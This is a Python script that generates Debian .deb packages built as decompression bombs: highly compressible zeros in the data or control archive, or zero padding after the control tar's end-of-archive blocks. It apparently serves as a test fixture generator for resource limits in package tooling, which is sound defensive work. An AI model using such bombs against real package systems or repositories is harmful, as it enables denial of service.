#!/usr/bin/env python3
"""bomb.py OUT KIND SIZE_MIB [INSTALLED_SIZE_KIB]: a .deb whose KIND (data|control) tar.gz
holds one member of SIZE_MIB MiB of zeros (gzip: ~1000:1); control-padding: SIZE_MIB MiB of
zeros after control.tar's end-of-archive blocks."""
import gzip, io, os, subprocess, sys, tarfile, tempfile

class Zeros(io.RawIOBase):
    def __init__(self, n): self.n = n
    def readable(self): return True
    def readinto(self, b):
        k = min(len(b), self.n); b[:k] = bytes(k); self.n -= k; return k

def targz(members, pad=0):
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=1, mtime=0) as gz:
        with tarfile.open(fileobj=gz, mode="w|", format=tarfile.GNU_FORMAT) as tf:
            for name, size, src in members:
                ti = tarfile.TarInfo(name); ti.mtime = 1700000000; ti.mode = 0o644; ti.size = size
                tf.addfile(ti, src)
        zero = bytes(1 << 20)
        for _ in range(pad): gz.write(zero)  # after the end-of-archive blocks: zeros a reader must decode to reach the end
    return buf.getvalue()

out, kind, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
isz = sys.argv[4] if len(sys.argv) > 4 else None
ctl = f"Package: bomb\nVersion: 1\nArchitecture: all\n{'Installed-Size: ' + isz + chr(10) if isz else ''}Maintainer: t <t@t>\nDescription: decompression bomb\n".encode()
big = ("./usr/share/bomb/zeros" if kind == "data" else "./md5sums", mib << 20, Zeros(mib << 20))
control = targz([("./control", len(ctl), io.BytesIO(ctl))] + ([big] if kind == "control" else []), mib if kind == "control-padding" else 0)
data = targz([big] if kind == "data" else [])
with tempfile.TemporaryDirectory() as d:
    for name, content in (("debian-binary", b"2.0\n"), ("control.tar.gz", control), ("data.tar.gz", data)):
        with open(os.path.join(d, name), "wb") as f: f.write(content)
    if os.path.exists(out): os.unlink(out)
    subprocess.run(["ar", "qcD", os.path.abspath(out), "debian-binary", "control.tar.gz", "data.tar.gz"], cwd=d, check=True)
